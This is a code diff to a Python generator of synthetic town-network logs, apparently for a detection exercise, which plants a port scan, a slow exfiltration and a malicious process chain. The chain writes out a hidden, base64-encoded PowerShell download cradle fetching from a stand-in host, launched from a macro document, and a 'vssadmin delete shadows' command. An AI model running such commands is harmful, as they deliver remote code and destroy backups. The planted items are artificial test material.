@@ -22,9 +22,32 @@ GUESSER, SCANNER, DROP = "203.0.113.66", "10.20.1.55", "203.0.113.200"
 VICTIM_USER, VICTIM_HOST, LEAK_HOST = "k.weber", "ws-031", "10.20.1.17"
 FIRST = "a.bauer b.fischer c.wagner d.becker e.hoffmann f.koch g.richter h.klein i.wolf j.neumann"
 USERS = (*FIRST.split(), VICTIM_USER, *(f"{c}.{n}" for c in "lmnop" for n in ("schulz", "braun", "krause", "lange")))
-PROGRAMS = ("outlook.exe", "winword.exe", "excel.exe", "msedge.exe", "teams.exe", "explorer.exe", "acrobat.exe", "fachverfahren.exe")
-PAGES = ("/", "/buergerservice", "/termine", "/formulare", "/news", "/css/site.css", "/js/app.js", "/kontakt", "/rathaus")
-AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X)", "Mozilla/5.0 (X11; Linux x86_64)")
+PROGRAMS = (
+    "outlook.exe",
+    "winword.exe",
+    "excel.exe",
+    "msedge.exe",
+    "teams.exe",
+    "explorer.exe",
+    "acrobat.exe",
+    "fachverfahren.exe",
+)
+PAGES = (
+    "/",
+    "/buergerservice",
+    "/termine",
+    "/formulare",
+    "/news",
+    "/css/site.css",
+    "/js/app.js",
+    "/kontakt",
+    "/rathaus",
+)
+AGENTS = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X)",
+    "Mozilla/5.0 (X11; Linux x86_64)",
+)
 
 FORWARD, VPN = 'type="traffic" subtype="forward"', 'type="event" subtype="vpn"'
 
@@ -99,20 +122,61 @@ def attacks(rng: Random, day: datetime) -> tuple[list[Line], list[Truth]]:
     plant("port_scan", "T1046", "rule", scan, [SCANNER])
 
     at = base + 11.7 * 3600
-    script = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.90/a')".encode("utf-16-le")).decode()
+    script = base64.b64encode(
+        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.90/a')".encode("utf-16-le")
+    ).decode()
     powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
     office = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
     chain = [
-        (at, "windows", _process(rng, at, VICTIM_HOST, "h.klein", office, f'"{office}" Rechnung_4711.docm', r"C:\Windows\explorer.exe")),
-        (at + 9, "windows", _process(rng, at + 9, VICTIM_HOST, "h.klein", powershell, f"powershell.exe -nop -w hidden -enc {script}", office)),
-        (at + 95, "windows", _process(rng, at + 95, VICTIM_HOST, "h.klein", r"C:\Windows\System32\vssadmin.exe", "vssadmin delete shadows /all /quiet", powershell)),
+        (
+            at,
+            "windows",
+            _process(
+                rng, at, VICTIM_HOST, "h.klein", office, f'"{office}" Rechnung_4711.docm', r"C:\Windows\explorer.exe"
+            ),
+        ),
+        (
+            at + 9,
+            "windows",
+            _process(
+                rng, at + 9, VICTIM_HOST, "h.klein", powershell, f"powershell.exe -nop -w hidden -enc {script}", office
+            ),
+        ),
+        (
+            at + 95,
+            "windows",
+            _process(
+                rng,
+                at + 95,
+                VICTIM_HOST,
+                "h.klein",
+                r"C:\Windows\System32\vssadmin.exe",
+                "vssadmin delete shadows /all /quiet",
+                powershell,
+            ),
+        ),
     ]
     plant("process_chain", "T1059.001", "rule", chain, [VICTIM_HOST, "h.klein"])
 
     at, leak = base + 9.1 * 3600, []
     for _ in range(44):
         at += rng.uniform(500, 760)
-        leak.append((at, "firewall", _traffic(rng, at, LEAK_HOST, DROP, 443, rng.randint(14_000_000, 26_000_000), rng.randint(20_000, 90_000), "close")))
+        leak.append(
+            (
+                at,
+                "firewall",
+                _traffic(
+                    rng,
+                    at,
+                    LEAK_HOST,
+                    DROP,
+                    443,
+                    rng.randint(14_000_000, 26_000_000),
+                    rng.randint(20_000, 90_000),
+                    "close",
+                ),
+            )
+        )
     plant("slow_exfiltration", "T1048", "behaviour", leak, [LEAK_HOST, DROP])
     return lines, truth
 
@@ -136,17 +200,30 @@ def _firewall(rng: Random, at: float) -> str:
     host = rng.randrange(10, 60)
     if kind < 0.06:  # noise from outside that every town has
         outside = f"198.51.100.{rng.randrange(1, 255)}"
-        return _traffic(rng, at, outside, "192.0.2.10", rng.choice((22, 23, 80, 443, 445, 3389, 8080)), 0, 0, "deny", inbound=True)
+        return _traffic(
+            rng, at, outside, "192.0.2.10", rng.choice((22, 23, 80, 443, 445, 3389, 8080)), 0, 0, "deny", inbound=True
+        )
     if kind < 0.075:
         user = USERS[rng.randrange(len(USERS))]
         home = f"198.51.100.{50 + USERS.index(user)}"  # everybody has a usual line at home
         return _vpn(rng, at, user, home, ok=rng.random() > 0.08)
     if kind < 0.5:
         inside = f"10.20.0.{rng.choice((10, 11, 12, 20))}"
-        return _traffic(rng, at, f"10.20.1.{host}", inside, rng.choice((53, 88, 389, 445)), rng.randint(200, 9000), rng.randint(200, 60_000), "close")
+        return _traffic(
+            rng,
+            at,
+            f"10.20.1.{host}",
+            inside,
+            rng.choice((53, 88, 389, 445)),
+            rng.randint(200, 9000),
+            rng.randint(200, 60_000),
+            "close",
+        )
     usual = 5 + (host * 7 + rng.randrange(6)) % 40  # each workstation has its few usual destinations
     sent = min(int(rng.lognormvariate(8.5, 1.4)), 3_000_000)
-    return _traffic(rng, at, f"10.20.1.{host}", f"192.0.2.{100 + usual}", 443, sent, int(sent * rng.uniform(2, 30)), "close")
+    return _traffic(
+        rng, at, f"10.20.1.{host}", f"192.0.2.{100 + usual}", 443, sent, int(sent * rng.uniform(2, 30)), "close"
+    )
 
 
 def _head(at: float, rng: Random, logid: str, kind: str, level: str) -> str:
@@ -157,7 +234,18 @@ def _head(at: float, rng: Random, logid: str, kind: str, level: str) -> str:
     )
 
 
-def _traffic(rng: Random, at: float, source: str, target: str, port: int, sent: int, received: int, action: str, *, inbound: bool = False) -> str:
+def _traffic(
+    rng: Random,
+    at: float,
+    source: str,
+    target: str,
+    port: int,
+    sent: int,
+    received: int,
+    action: str,
+    *,
+    inbound: bool = False,
+) -> str:
     service = {53: "DNS", 80: "HTTP", 443: "HTTPS", 445: "SMB", 88: "KERBEROS", 389: "LDAP"}.get(port, f"tcp/{port}")
     proto = 17 if port == 53 else 6
     inner, outer = ("wan1", "dmz") if inbound else ("lan", "lan" if target.startswith("10.") else "wan1")
@@ -179,7 +267,11 @@ def _vpn(rng: Random, at: float, user: str, address: str, *, ok: bool) -> str:
 
 
 def _auth(rng: Random, at: float) -> str:
-    host, stamp, pid = f"srv-{rng.choice(('app', 'db', 'file'))}", f"{datetime.fromtimestamp(at, UTC) + timedelta(hours=1):%b %e %H:%M:%S}", rng.randint(900, 32000)
+    host, stamp, pid = (
+        f"srv-{rng.choice(('app', 'db', 'file'))}",
+        f"{datetime.fromtimestamp(at, UTC) + timedelta(hours=1):%b %e %H:%M:%S}",
+        rng.randint(900, 32000),
+    )
     kind = rng.random()
     user = rng.choice(("admin.ost", "admin.west", "backup"))
     admin_station = {"admin.ost": "10.20.0.31", "admin.west": "10.20.0.32", "backup": "10.20.0.20"}[user]
